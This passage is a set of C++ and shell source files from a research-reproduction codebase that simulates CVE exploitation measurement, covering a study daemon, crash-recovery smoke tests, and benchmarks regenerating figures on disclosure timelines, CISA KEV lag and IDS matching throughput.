// than a silently-zeroed worker count or a wrapped port number.
Options parse_options(int argc, char** argv) {
  Options options;
  auto& server = options.server;
  auto& soft_bytes = options.budget_soft_bytes;
  auto& hard_bytes = options.budget_hard_bytes;
  const auto reject = [&options](const std::string& flag, const char* want, const char* got) {
    std::cerr << "cvewbd: " << flag << " expects " << want << ", got '" << got << "'\n";
    options.parse_ok = false;
  };
  const auto parse_int = [&](const std::string& flag, const char* text, std::int64_t lo,
                             std::int64_t hi, std::int64_t& out) {
    std::int64_t value = 0;
    if (!util::parse_i64(text, value) || value < lo || value > hi) {
      reject(flag, "an integer in range", text);
      return false;
    }
    out = value;
    return true;
  };
  const auto parse_rate = [&](const std::string& flag, const char* text, double& out) {
    double value = 0;
    if (!util::parse_finite_double(text, value) || value < 0.0 || value > 1.0) {
      reject(flag, "a rate in [0,1]", text);
      return false;
    }
    out = value;
    return true;
  };
  for (int i = 1; i < argc && options.parse_ok; ++i) {
    const std::string arg = argv[i];
    const bool has_value = i + 1 < argc;
    std::int64_t value = 0;
    if (arg == "--bind" && has_value) {
      server.bind_address = argv[++i];
    } else if (arg == "--port" && has_value) {
      if (parse_int(arg, argv[++i], 0, 65535, value)) {
        server.port = static_cast<std::uint16_t>(value);
      }
    } else if (arg == "--port-file" && has_value) {
      options.port_file = argv[++i];
    } else if (arg == "--workers" && has_value) {
      if (parse_int(arg, argv[++i], 0, 4096, value)) {
        server.scheduler.workers = static_cast<int>(value);
      }
    } else if (arg == "--backlog" && has_value) {
      if (parse_int(arg, argv[++i], 0, 1 << 20, value)) {
        server.scheduler.backlog_capacity = static_cast<int>(value);
      }
    } else if (arg == "--cache-dir" && has_value) {
      server.scheduler.cache_dir = argv[++i];
    } else if (arg == "--store-dir" && has_value) {
      server.store_dir = argv[++i];
    } else if (arg == "--deadline-ms" && has_value) {
      if (parse_int(arg, argv[++i], 0, INT64_MAX / 1000000, value)) {
        server.scheduler.default_deadline = std::chrono::milliseconds(value);
      }
    } else if (arg == "--idle-timeout-ms" && has_value) {
      if (parse_int(arg, argv[++i], 0, INT64_MAX / 1000000, value)) {
        server.idle_timeout = std::chrono::milliseconds(value);
      }
    } else if (arg == "--max-frame-bytes" && has_value) {
      if (!util::parse_u64(argv[++i], server.max_frame_bytes)) {
        reject(arg, "a non-negative integer", argv[i]);
      }
    } else if (arg == "--scrub-interval-ms" && has_value) {
      if (parse_int(arg, argv[++i], 0, INT64_MAX / 1000000, value)) {
        server.scrub_interval = std::chrono::milliseconds(value);
      }
    } else if (arg == "--budget-soft-bytes" && has_value) {
      if (!util::parse_u64(argv[++i], soft_bytes)) {
        reject(arg, "a non-negative integer", argv[i]);
      }
    } else if (arg == "--budget-hard-bytes" && has_value) {
      if (!util::parse_u64(argv[++i], hard_bytes)) {
        reject(arg, "a non-negative integer", argv[i]);
      }
    } else if (arg == "--bytes-per-weight" && has_value) {
      if (!util::parse_u64(argv[++i], server.scheduler.bytes_per_weight)) {
        reject(arg, "a non-negative integer", argv[i]);
      }
    } else if (arg == "--metrics-out" && has_value) {
      options.metrics_out = argv[++i];
    } else if (arg == "--fault-seed" && has_value) {
      if (!util::parse_u64(argv[++i], server.fault_plan.seed)) {
        reject(arg, "a non-negative integer", argv[i]);
      }
    } else if (arg == "--fault-short-read" && has_value) {
      parse_rate(arg, argv[++i], server.fault_plan.short_read_rate);
    } else if (arg == "--fault-short-write" && has_value) {
      parse_rate(arg, argv[++i], server.fault_plan.short_write_rate);
    } else if (arg == "--fault-stall" && has_value) {
      parse_rate(arg, argv[++i], server.fault_plan.stall_rate);
    } else if (arg == "--fault-reset" && has_value) {
      parse_rate(arg, argv[++i], server.fault_plan.reset_rate);
    } else {
      std::cerr << "unknown or incomplete option '" << arg << "'\n";
      options.parse_ok = false;
    }
  }
  return options;
}

void usage() {
  std::cerr << "usage: cvewbd [--bind ADDR] [--port N] [--port-file FILE]\n"
               "              [--workers N] [--backlog N] [--cache-dir DIR]\n"
               "              [--store-dir DIR]\n"
               "              [--deadline-ms N] [--idle-timeout-ms N]\n"
               "              [--max-frame-bytes N] [--metrics-out FILE]\n"
               "              [--scrub-interval-ms N] [--budget-soft-bytes N]\n"
               "              [--budget-hard-bytes N] [--bytes-per-weight N]\n"
               "              [--fault-seed N] [--fault-short-read R]\n"
               "              [--fault-short-write R] [--fault-stall R] [--fault-reset R]\n";
}

}  // namespace

int main(int argc, char** argv) {
  const Options options = parse_options(argc, argv);
  if (!options.parse_ok) {
    usage();
    return 2;
  }

  // Watermarks first: the server's store open and connection buffers
  // charge the process budget from the very first allocation.
  util::MemoryBudget::process().set_limits(options.budget_soft_bytes,
                                           options.budget_hard_bytes);

  obs::Observability observability;
  daemon::Server server(options.server, &observability);
  if (!server.start()) {
    std::cerr << "cvewbd: cannot bind " << options.server.bind_address << ":"
              << options.server.port << ": " << std::strerror(errno) << "\n";
    return 1;
  }

  if (!options.port_file.empty()) {
    std::ofstream out(options.port_file);
    if (!out) {
      std::cerr << "cvewbd: cannot write " << options.port_file << "\n";
      return 1;
    }
    out << server.port() << "\n";
  }
  std::cerr << "cvewbd: listening on " << options.server.bind_address << ":" << server.port()
            << "\n";

  g_server = &server;
  std::signal(SIGTERM, handle_shutdown_signal);
  std::signal(SIGINT, handle_shutdown_signal);
  std::signal(SIGPIPE, SIG_IGN);

  server.run();  // returns after a signal-triggered graceful drain

  std::signal(SIGTERM, SIG_DFL);
  std::signal(SIGINT, SIG_DFL);
  g_server = nullptr;

  if (!options.metrics_out.empty()) {
    std::ofstream out(options.metrics_out);
    if (!out) {
      std::cerr << "cvewbd: cannot write " << options.metrics_out << "\n";
      return 1;
    }
    out << observability.to_json().dump(2) << "\n";
    std::cerr << "cvewbd: wrote " << options.metrics_out << "\n";
  }

  const daemon::ServerStats stats = server.stats();
  std::cerr << "cvewbd: drained (" << stats.accepted << " connections, " << stats.frames_in
            << " frames in, " << stats.replies_out << " replies out)\n";
  return 0;
}
