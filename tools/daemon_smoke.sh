#!/bin/sh
# End-to-end smoke for the study service daemon.
#
#   daemon_smoke.sh <cvewbd-binary> <cvewb-load-binary> <cvewb-binary> <workdir>
#
# Four legs, one daemon lifecycle:
#
#  1. Determinism: submit a study over the socket and require the daemon's
#     digest to be byte-identical to `cvewb study --digest-out` for the
#     same seed/scale -- the service is a wrapper, never a variable.
#
#  2. Overload: burst more submissions than the backlog holds; every
#     rejection must be a structured `overloaded` reply with a positive
#     retry_after_ms (cvewb-load exits nonzero otherwise).
#
#  3. Graceful drain: park a detached study, SIGTERM the daemon, and
#     require exit 0 -- the drain cancelled the study at a checkpoint and
#     journaled it in the shared cache dir.
#
#  4. Resume: restart the daemon on the same cache dir, resubmit the same
#     study, and require its digest to match the reference -- the journal
#     left by the drain leg (plus the stage cache) must carry the rerun to
#     the identical result.
set -eu

CVEWBD=$1
LOAD=$2
CVEWB=$3
DIR=$4
SEED=7
SCALE=0.02

rm -rf "$DIR"
mkdir -p "$DIR"

start_daemon() {
    # shellcheck disable=SC2086  # deliberate word splitting of extra flags
    "$CVEWBD" --port 0 --port-file "$DIR/port" --cache-dir "$DIR/cache" $1 \
        > "$DIR/daemon.log" 2>&1 &
    DAEMON_PID=$!
    # Wait for the ephemeral port to land in the port file.
    i=0
    while [ ! -s "$DIR/port" ]; do
        i=$((i + 1))
        if [ "$i" -gt 100 ]; then
            echo "FAIL: daemon never wrote $DIR/port" >&2
            cat "$DIR/daemon.log" >&2
            exit 1
        fi
        sleep 0.1
    done
}

stop_daemon() {
    kill -TERM "$DAEMON_PID" 2>/dev/null || true
    STATUS=0
    wait "$DAEMON_PID" || STATUS=$?
    if [ "$STATUS" -ne 0 ]; then
        echo "FAIL: daemon exited $STATUS on SIGTERM, expected a clean drain (0)" >&2
        cat "$DIR/daemon.log" >&2
        exit 1
    fi
}

# Reference digest from the CLI, no daemon involved.
"$CVEWB" study --seed "$SEED" --scale "$SCALE" \
    --digest-out "$DIR/reference.txt" > /dev/null 2>&1

# --- Legs 1 + 2: determinism and overload on a live daemon -----------------
start_daemon "--workers 2 --backlog 4"

"$LOAD" once "$DIR/port" --seed "$SEED" --scale "$SCALE" > "$DIR/daemon_digest.txt"
cmp "$DIR/reference.txt" "$DIR/daemon_digest.txt" || {
    echo "FAIL: daemon digest differs from CLI digest" >&2
    exit 1
}

"$LOAD" overload "$DIR/port" --burst 24 --scale 0.05 > "$DIR/overload.txt"
read -r _ ACCEPTED _ REJECTED < "$DIR/overload.txt"
if [ "$REJECTED" -lt 1 ]; then
    echo "FAIL: overload burst produced no structured rejections: $(cat "$DIR/overload.txt")" >&2
    exit 1
fi
echo "overload: accepted $ACCEPTED rejected $REJECTED"

# --- Leg 3: SIGTERM drain with a study in flight ---------------------------
"$LOAD" submit "$DIR/port" --seed 11 --scale "$SCALE" --detach > /dev/null
stop_daemon

# --- Leg 4: restart on the same cache dir, resubmit, digests converge ------
rm -f "$DIR/port"
start_daemon "--workers 2 --backlog 4"
"$LOAD" once "$DIR/port" --seed 11 --scale "$SCALE" > "$DIR/resumed.txt"
"$CVEWB" study --seed 11 --scale "$SCALE" \
    --digest-out "$DIR/reference11.txt" > /dev/null 2>&1
cmp "$DIR/reference11.txt" "$DIR/resumed.txt" || {
    echo "FAIL: post-drain resubmission digest differs from reference" >&2
    exit 1
}
stop_daemon

echo "daemon smoke ok"
