#!/bin/sh
# Crash-recovery smoke for the persistent session store CLI.
#
#   store_smoke.sh <cvewb-binary> <workdir>
#
# Legs:
#
#  1. Reference: ingest a small study into a clean store; record the
#     full-match-set digests of both tables and require verify to pass.
#
#  2. Hard kill at the worst-timed boundary: the same ingest into a fresh
#     store with --crash-after-wal, which _exit(137)s the process
#     immediately after the WAL segment rename lands -- the batch is
#     durable but the commit was never acknowledged or applied.  Reopening
#     the store must recover the run by WAL replay: stat sees it, verify
#     passes, and both table digests are byte-identical to the reference.
#
#  3. Idempotency: re-running the ingest against the recovered store is a
#     no-op success ("already ingested"), not a duplicate run.
set -eu

CVEWB=$1
DIR=$2
SEED=7
SCALE=0.005

rm -rf "$DIR"
mkdir -p "$DIR"

ingest() {
    # Shared cache dir: every leg reruns the same study, so legs 2+ are
    # warm and the smoke stays fast.
    "$CVEWB" store ingest "$1" --seed "$SEED" --scale "$SCALE" --threads 2 \
        --cache-dir "$DIR/cache" $2
}

digest() {
    # The digest covers the full match set regardless of --limit.
    "$CVEWB" store query "$1" --table "$2" --limit 0 | sed -n 's/^digest //p'
}

# --- Leg 1: clean reference ------------------------------------------------
ingest "$DIR/ref" "" > /dev/null
"$CVEWB" store verify "$DIR/ref" > /dev/null
REF_SESSIONS=$(digest "$DIR/ref" sessions)
REF_EVENTS=$(digest "$DIR/ref" events)
[ -n "$REF_SESSIONS" ] && [ -n "$REF_EVENTS" ] || {
    echo "FAIL: reference digests empty" >&2
    exit 1
}

# --- Leg 2: kill after the WAL rename, reopen, compare ---------------------
STATUS=0
ingest "$DIR/crash" "--crash-after-wal" > /dev/null 2>&1 || STATUS=$?
if [ "$STATUS" -ne 137 ]; then
    echo "FAIL: crash-after-wal ingest exited $STATUS, expected 137" >&2
    exit 1
fi
"$CVEWB" store verify "$DIR/crash" > /dev/null || {
    echo "FAIL: recovered store failed verify" >&2
    exit 1
}
"$CVEWB" store stat "$DIR/crash" | grep -q "1 runs" || {
    echo "FAIL: recovered store does not contain the crashed run" >&2
    exit 1
}
CRASH_SESSIONS=$(digest "$DIR/crash" sessions)
CRASH_EVENTS=$(digest "$DIR/crash" events)
[ "$CRASH_SESSIONS" = "$REF_SESSIONS" ] || {
    echo "FAIL: sessions digest after crash recovery differs from reference" >&2
    echo "  reference: $REF_SESSIONS" >&2
    echo "  recovered: $CRASH_SESSIONS" >&2
    exit 1
}
[ "$CRASH_EVENTS" = "$REF_EVENTS" ] || {
    echo "FAIL: events digest after crash recovery differs from reference" >&2
    exit 1
}

# --- Leg 3: re-ingest is idempotent ----------------------------------------
ingest "$DIR/crash" "" | grep -q "already ingested" || {
    echo "FAIL: re-ingest into the recovered store was not a no-op" >&2
    exit 1
}

echo "store smoke: ok (crash at WAL boundary recovered to identical digests)"
