// Figure 2: CDF of CVSS impact -- studied CVEs vs CISA KEV vs all CVEs.
#include <iostream>

#include "data/appendix_e.h"
#include "data/kev.h"
#include "data/nvd.h"
#include "report/figures.h"
#include "stats/ecdf.h"

int main() {
  using namespace cvewb;
  std::vector<double> studied;
  for (const auto& rec : data::appendix_e()) studied.push_back(rec.impact);
  const auto catalog = data::synthesize_kev();
  std::vector<double> kev;
  for (const auto& entry : catalog.entries) kev.push_back(entry.impact);
  const std::vector<double> population = data::population_impacts(20000);

  const stats::Ecdf studied_cdf(studied);
  const stats::Ecdf kev_cdf(kev);
  const stats::Ecdf population_cdf(population);

  util::PlotOptions options;
  options.x_label = "CVSS base score";
  options.y_unit_interval = true;
  report::print_figure(std::cout, "Figure 2: CDF of CVE impact",
                       {report::ecdf_series("studied (DSCOPE)", studied_cdf),
                        report::ecdf_series("CISA KEV", kev_cdf),
                        report::ecdf_series("all CVEs 2021-2023", population_cdf)},
                       options);

  // Finding 1 / Finding 15: studied skew highest, KEV in between.
  const auto critical = [](const stats::Ecdf& cdf) { return 1.0 - cdf.at(8.99); };
  std::cout << "share >= 9.0: studied=" << critical(studied_cdf) << " kev=" << critical(kev_cdf)
            << " population=" << critical(population_cdf)
            << "  (expected ordering: studied > kev > population)\n";
  std::cout << "median: studied=" << studied_cdf.quantile(0.5)
            << " (paper: 9.8), population=" << population_cdf.quantile(0.5) << "\n";
  return 0;
}
