// Figure 7: CDF of exploit events over time since disclosure, segmented by
// whether a deployed IDS signature would have blocked the traffic.
#include <iostream>

#include "common.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto& exposure = study.exposure;

  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days since public disclosure";
  report::print_figure(std::cout,
                       "Figure 7: exploit events since disclosure, by mitigation status",
                       {report::ecdf_series("mitigated", stats::Ecdf(exposure.mitigated_days)),
                        report::ecdf_series("unmitigated", stats::Ecdf(exposure.unmitigated_days))},
                       options);

  report::print_comparison(std::cout, "mitigated share of all events (Finding 10)", 0.95,
                           exposure.mitigated_fraction());
  report::print_comparison(std::cout, "unmitigated exposure within 30 days (Finding 12)", 0.50,
                           exposure.unmitigated_within(30.0));
  std::cout << "unmitigated events: " << exposure.unmitigated_days.size() << " of "
            << exposure.total() << "\n";
  return 0;
}
