// Table 4: per-CVE desideratum satisfaction, baseline, and skill.
//
// Regenerated twice: "dataset mode" computes directly from the embedded
// Appendix-E joined dataset; "pipeline mode" reruns the full telescope ->
// IDS -> RCA -> reconstruction pipeline and recomputes from what the
// simulated measurement recovered.  Both are printed against the paper's
// columns, plus the Markov-baseline verification and Finding 3/4 stats.
#include <iostream>

#include "common.h"
#include "lifecycle/markov.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  bench::header("Table 4 -- CVD skill on studied CVEs (dataset mode)");
  const auto dataset_table = lifecycle::skill_table(lifecycle::study_timelines());
  std::cout << report::render_skill_table(dataset_table, &report::paper_table4_satisfied(),
                                          &report::paper_table4_skill());
  report::print_comparison(std::cout, "mean skill (Finding 3)", 0.37, dataset_table.mean_skill());

  bench::header("Table 4 -- pipeline mode (reconstructed from simulated traffic)");
  const auto& study = bench::the_study();
  std::cout << report::render_skill_table(study.table4, &report::paper_table4_satisfied(),
                                          &report::paper_table4_skill());

  bench::header("Baseline verification (CERT uniform-transition Markov model)");
  const auto probs = lifecycle::pair_probabilities(lifecycle::cert_model());
  for (const auto& d : lifecycle::studied_desiderata()) {
    report::print_comparison(std::cout, "baseline " + d.label(), d.cert_baseline,
                             probs[lifecycle::index_of(d.before)][lifecycle::index_of(d.after)]);
  }

  int above = 0;
  for (const auto& row : dataset_table.rows) above += row.skill > 0 ? 1 : 0;
  std::cout << "\nFinding 3: " << above << " of 9 desiderata beat the baseline (paper: 8)\n";
  std::cout << "Finding 4: prior Microsoft-only F<P skill was 0.969; measured broad-vendor "
               "mean skill "
            << report::fmt(dataset_table.mean_skill()) << "\n";
  return 0;
}
