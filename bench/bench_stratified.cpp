// Stratified CVD skill: the paper attributes its lower-than-Microsoft
// skill to vendor/vulnerability heterogeneity (§5, Finding 4).  This bench
// makes that concrete by recomputing D < A satisfaction and skill within
// strata: CVSS severity band, weakness family, and vendor class.
#include <functional>
#include <iostream>
#include <map>

#include "data/appendix_e.h"
#include "lifecycle/skill.h"
#include "report/table.h"

namespace {

using namespace cvewb;

std::string cwe_family(const std::string& cwe) {
  static const std::map<std::string, std::string> kFamilies = {
      {"CWE-77", "injection"},  {"CWE-78", "injection"},  {"CWE-89", "injection"},
      {"CWE-94", "injection"},  {"CWE-917", "injection"}, {"CWE-74", "injection"},
      {"CWE-79", "injection"},  {"CWE-611", "injection"},
      {"CWE-22", "traversal"},
      {"CWE-287", "auth"},      {"CWE-288", "auth"},      {"CWE-306", "auth"},
      {"CWE-862", "auth"},      {"CWE-798", "auth"},
      {"CWE-119", "memory"},    {"CWE-121", "memory"},    {"CWE-787", "memory"},
      {"CWE-416", "memory"},    {"CWE-400", "memory"},
  };
  const auto it = kFamilies.find(cwe);
  return it == kFamilies.end() ? "other" : it->second;
}

std::string vendor_class(const std::string& vendor) {
  static const std::map<std::string, std::string> kClasses = {
      {"Arcadyan", "router/IoT"}, {"Buffalo", "router/IoT"},   {"Tenda", "router/IoT"},
      {"TP-Link", "router/IoT"},  {"D-Link", "router/IoT"},    {"NETGEAR", "router/IoT"},
      {"Realtek", "router/IoT"},  {"Hikvision", "router/IoT"}, {"Dahua", "router/IoT"},
      {"Yealink", "router/IoT"},  {"Zyxel", "router/IoT"},
      {"Microsoft", "enterprise"}, {"Cisco", "enterprise"},     {"VMware", "enterprise"},
      {"F5", "enterprise"},        {"Fortinet", "enterprise"},  {"SonicWall", "enterprise"},
      {"Ivanti", "enterprise"},    {"Adobe", "enterprise"},     {"Zoho", "enterprise"},
      {"Atlassian", "oss/web"},    {"Apache", "oss/web"},       {"Grafana Labs", "oss/web"},
      {"Redis", "oss/web"},        {"WSO2", "oss/web"},         {"GLPI Project", "oss/web"},
      {"WebSVN", "oss/web"},       {"ExifTool", "oss/web"},
  };
  const auto it = kClasses.find(vendor);
  return it == kClasses.end() ? "other" : it->second;
}

void stratify(const char* title,
              const std::function<std::string(const data::CveRecord&)>& key_of) {
  std::map<std::string, std::vector<lifecycle::Timeline>> strata;
  for (const auto& rec : data::appendix_e()) {
    strata[key_of(rec)].push_back(lifecycle::timeline_from_record(rec));
  }
  std::cout << "\n=== " << title << " ===\n";
  report::TextTable table({"stratum", "CVEs", "D<A satisfied", "skill"});
  const lifecycle::Desideratum d{lifecycle::Event::kFixDeployed, lifecycle::Event::kAttacks,
                                 0.187};
  for (const auto& [key, timelines] : strata) {
    const auto sat = lifecycle::evaluate(d, timelines);
    if (sat.evaluated == 0) continue;
    table.add_row({key, std::to_string(timelines.size()), report::fmt(sat.rate()),
                   report::fmt(lifecycle::skill(sat.rate(), d.cert_baseline))});
  }
  std::cout << table.render();
}

}  // namespace

int main() {
  stratify("D < A by CVSS severity band", [](const data::CveRecord& rec) {
    return rec.impact >= 9.0 ? std::string("critical (>=9.0)")
           : rec.impact >= 7.0 ? std::string("high (7.0-8.9)")
                               : std::string("medium/low (<7.0)");
  });
  stratify("D < A by weakness family",
           [](const data::CveRecord& rec) { return cwe_family(rec.cwe); });
  stratify("D < A by vendor class",
           [](const data::CveRecord& rec) { return vendor_class(rec.vendor); });
  std::cout << "\nHeterogeneity in one view: coordinated disclosure performs unevenly across\n"
               "product classes, which is why the broad-vendor skill (0.37 mean) sits far\n"
               "below the Microsoft-only figure (0.969) cited in Finding 4.\n";
  return 0;
}
