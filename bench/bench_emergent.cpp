// Recommendation 3 operationalized: signature-free emergent-threat
// detection over the telescope stream, with detection latency measured
// against ground-truth onsets and against CISA KEV's documented dates.
#include <iostream>
#include <map>
#include <set>

#include "common.h"
#include "data/kev.h"
#include "lifecycle/emergent.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();

  lifecycle::EmergentDetector detector;
  // Which fingerprints belong to which CVE (ground truth, used only for
  // scoring the detector -- the detector itself never sees tags).
  std::map<std::string, std::string> fingerprint_cve;
  for (std::size_t i = 0; i < study.traffic.sessions.size(); ++i) {
    const auto& session = study.traffic.sessions[i];
    const auto& tag = study.traffic.tags[i];
    if (tag.kind == traffic::TrafficTag::Kind::kExploit) {
      fingerprint_cve.emplace(lifecycle::payload_fingerprint(session), tag.cve_id);
    }
    detector.observe(session);
  }

  std::cout << "=== signature-free emergent-threat detection ===\n";
  std::cout << "fingerprints tracked: " << detector.tracked_fingerprints() << "\n";
  std::cout << "alerts raised: " << detector.alerts().size() << "\n\n";

  std::set<std::string> alerted_cves;
  std::size_t noise_alerts = 0;
  report::TextTable table({"CVE", "onset", "alert latency", "sessions", "sources"});
  for (const auto& alert : detector.alerts()) {
    const auto it = fingerprint_cve.find(alert.fingerprint);
    if (it == fingerprint_cve.end()) {
      ++noise_alerts;
      continue;
    }
    if (!alerted_cves.insert(it->second).second) continue;  // first alert per CVE
    table.add_row({it->second, util::format_date(alert.first_seen),
                   util::format_offset(alert.detection_latency()),
                   std::to_string(alert.sessions), std::to_string(alert.distinct_sources)});
  }
  std::cout << table.render();
  std::cout << "\nstudied CVEs alerted without any signature: " << alerted_cves.size() << " of "
            << study.reconstruction.timelines.size()
            << " (low-volume CVEs stay under the outbreak thresholds)\n";
  std::cout << "non-CVE alerts (credential stuffing, scanner noise): " << noise_alerts << "\n";

  // Lead over KEV: alert_time vs the catalog's documented date.
  const auto catalog = data::synthesize_kev();
  std::map<std::string, util::TimePoint> kev_added;
  for (const auto& entry : catalog.entries) kev_added.emplace(entry.cve_id, entry.date_added);
  std::size_t earlier = 0;
  std::size_t compared = 0;
  double total_lead_days = 0;
  for (const auto& alert : detector.alerts()) {
    const auto fp = fingerprint_cve.find(alert.fingerprint);
    if (fp == fingerprint_cve.end()) continue;
    const auto added = kev_added.find(fp->second);
    if (added == kev_added.end()) continue;
    ++compared;
    const double lead = (added->second - alert.alert_time).total_days();
    if (lead > 0) {
      ++earlier;
      total_lead_days += lead;
    }
  }
  if (compared > 0) {
    std::cout << "\nvs CISA KEV: automated alerts precede the catalog for " << earlier << " of "
              << compared << " shared CVEs, by "
              << report::fmt(total_lead_days / std::max<std::size_t>(earlier, 1), 0)
              << " days on average -- the situational-awareness gap Finding 17 measured,\n"
                 "closable without waiting for signatures.\n";
  }
  return 0;
}
