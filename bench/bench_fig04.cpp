// Figure 4: CVE exploit events relative to publication date -- a spike
// right after publication with a sustained tail for months or years.
#include <iostream>
#include <unordered_map>

#include "common.h"
#include "report/figures.h"
#include "stats/histogram.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  std::unordered_map<std::string, util::TimePoint> published;
  for (const auto& rec : data::appendix_e()) published.emplace(rec.id, rec.published);

  stats::Histogram relative(-250.0, 450.0, 70);  // 10-day bins
  for (const auto& event : study.reconstruction.events) {
    relative.add((event.time - published.at(event.cve_id)).total_days());
  }
  util::PlotOptions options;
  options.x_label = "days relative to CVE publication";
  report::print_figure(std::cout, "Figure 4: exploit events relative to publication",
                       {report::histogram_series("events per 10-day bin", relative)}, options);

  double spike = 0;   // first 30 days
  double tail = 0;    // day 30..450
  double before = relative.underflow();
  for (std::size_t i = 0; i < relative.bin_count(); ++i) {
    const double lo = relative.bin_lo(i);
    if (lo < 0) before += relative.count(i);
    else if (lo < 30) spike += relative.count(i);
    else tail += relative.count(i);
  }
  std::cout << "pre-publication: " << before << ", first 30 days: " << spike
            << ", sustained tail (>30d): " << tail + relative.overflow()
            << "  (paper: spike after publication, sustained traffic for months/years)\n";
  return 0;
}
