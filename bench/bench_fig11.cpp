// Figure 11: difference between earliest exploitation seen by DSCOPE and
// the date the CVE entered CISA KEV, for CVEs in both datasets
// (Finding 17).
#include <iostream>

#include "data/kev.h"
#include "lifecycle/kev_compare.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto catalog = data::synthesize_kev();
  const auto timelines = lifecycle::study_timelines();
  const auto deltas = lifecycle::shared_deltas(catalog, timelines);
  std::vector<double> days;
  for (const auto& delta : deltas) days.push_back(delta.delta_days);

  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "DSCOPE first attack minus KEV addition (days; negative = DSCOPE first)";
  report::print_figure(std::cout, "Figure 11: DSCOPE vs KEV first-exploitation delta",
                       {report::ecdf_series("shared CVEs", stats::Ecdf(days))}, options);

  const auto cmp = lifecycle::compare_with_kev(catalog, timelines);
  report::print_comparison(std::cout, "shared CVEs / studied", 0.70, cmp.shared_fraction());
  report::print_comparison(std::cout, "DSCOPE-first share", 0.59, cmp.dscope_first_fraction());
  report::print_comparison(std::cout, "DSCOPE lead > 30 days", 0.50,
                           cmp.dscope_first_30d_fraction());
  std::cout << "shared CVEs: " << cmp.shared << " of " << cmp.studied_cves
            << " (paper: 44 of 63)\n";
  return 0;
}
