// Performance benchmarks for the IDS engine: rule parsing, automaton
// construction, and matching throughput -- including a scaled ruleset
// approximating the real deployment's >48 k signatures, where the
// fast-pattern prefilter is what keeps post-facto evaluation tractable.
#include <benchmark/benchmark.h>

#include "ids/aho_corasick.h"
#include "ids/matcher.h"
#include "ids/rule_gen.h"
#include "ids/rule_parser.h"
#include "traffic/payload.h"
#include "util/rng.h"

namespace {

using namespace cvewb;

std::vector<net::TcpSession> sample_sessions(int count) {
  util::Rng rng(99);
  std::vector<net::TcpSession> sessions;
  sessions.reserve(static_cast<std::size_t>(count));
  const auto& records = data::appendix_e();
  for (int i = 0; i < count; ++i) {
    net::TcpSession s;
    s.open_time = util::TimePoint(1640000000 + i);
    s.dst_port = 80;
    switch (rng.uniform_u64(3)) {
      case 0: {
        const auto& rec = records[rng.uniform_u64(records.size())];
        s.payload = traffic::render_exploit_payload(ids::spec_for(rec), rng);
        s.dst_port = rec.service_port;
        break;
      }
      case 1:
        s.payload = traffic::background_payload(rng);
        break;
      default:
        s.payload = traffic::credential_stuffing_payload(rng);
        break;
    }
    sessions.push_back(std::move(s));
  }
  return sessions;
}

/// Pad the study ruleset with synthetic filler signatures (distinct fast
/// patterns that never match study traffic) to model the 48 k-rule feed.
std::vector<ids::Rule> padded_ruleset(int filler) {
  auto rules = ids::generate_study_ruleset().rules();
  for (int i = 0; i < filler; ++i) {
    ids::Rule rule;
    rule.sid = 100000 + i;
    rule.msg = "filler";
    ids::ContentMatch c;
    c.pattern = "/filler/" + std::to_string(i) + "/endpoint.cgi";
    c.buffer = ids::Buffer::kHttpUri;
    c.nocase = true;
    rule.contents.push_back(std::move(c));
    rules.push_back(std::move(rule));
  }
  return rules;
}

void BM_RuleParse(benchmark::State& state) {
  const std::string text = ids::generate_study_ruleset().serialize();
  for (auto _ : state) {
    benchmark::DoNotOptimize(ids::parse_rules(text));
  }
  state.SetItemsProcessed(state.iterations() *
                          static_cast<std::int64_t>(ids::generate_study_ruleset().size()));
}
BENCHMARK(BM_RuleParse);

void BM_AhoCorasickBuild(benchmark::State& state) {
  const int patterns = static_cast<int>(state.range(0));
  for (auto _ : state) {
    ids::AhoCorasick ac;
    for (int i = 0; i < patterns; ++i) ac.add("/pattern/" + std::to_string(i) + "/x.cgi");
    ac.build();
    benchmark::DoNotOptimize(ac);
  }
  state.SetItemsProcessed(state.iterations() * patterns);
}
BENCHMARK(BM_AhoCorasickBuild)->Arg(100)->Arg(1000)->Arg(10000);

void BM_AhoCorasickScan(benchmark::State& state) {
  ids::AhoCorasick ac;
  for (int i = 0; i < 1000; ++i) ac.add("/pattern/" + std::to_string(i) + "/x.cgi");
  ac.build();
  util::Rng rng(5);
  std::string text;
  for (int i = 0; i < 4096; ++i) text.push_back(static_cast<char>(rng.uniform_int(0x20, 0x7e)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(ac.find_all(text));
  }
  state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(text.size()));
}
BENCHMARK(BM_AhoCorasickScan);

void BM_MatchThroughput(benchmark::State& state) {
  const int filler = static_cast<int>(state.range(0));
  const bool prefilter = state.range(1) != 0;
  ids::MatcherOptions options;
  options.use_prefilter = prefilter;
  const ids::Matcher matcher(padded_ruleset(filler), options);
  const auto sessions = sample_sessions(512);
  std::size_t idx = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(matcher.earliest_published_match(sessions[idx]));
    idx = (idx + 1) % sessions.size();
  }
  state.SetItemsProcessed(state.iterations());
  state.SetLabel((prefilter ? "prefilter/" : "exhaustive/") + std::to_string(filler + 78) +
                 " rules");
}
BENCHMARK(BM_MatchThroughput)
    ->Args({0, 1})
    ->Args({0, 0})
    ->Args({4000, 1})
    ->Args({4000, 0})
    ->Args({48000, 1});

}  // namespace

BENCHMARK_MAIN();
