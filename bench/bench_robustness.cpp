// Robustness of the Table-4 reconstruction under degraded capture.
//
// Sweeps session-loss rates and snaplen truncation over the calibrated
// study traffic and reports, per degradation level, how many Appendix-E
// CVEs keep their clean-run skill classification (the satisfied /
// violated / unknown verdict across every studied desideratum) and how
// far the mean skill drifts.  The interesting output is the knee: the
// degradation level at which classifications start to flip.
#include <iostream>
#include <map>
#include <string>
#include <vector>

#include "common.h"
#include "data/appendix_e.h"
#include "faults/fault_injector.h"
#include "lifecycle/desiderata.h"
#include "report/data_quality.h"
#include "report/table.h"

namespace {

using namespace cvewb;

/// Per-CVE verdict string across the studied desiderata ('1'/'0'/'?').
std::map<std::string, std::string> classify(const std::vector<lifecycle::Timeline>& timelines) {
  std::map<std::string, std::string> classes;
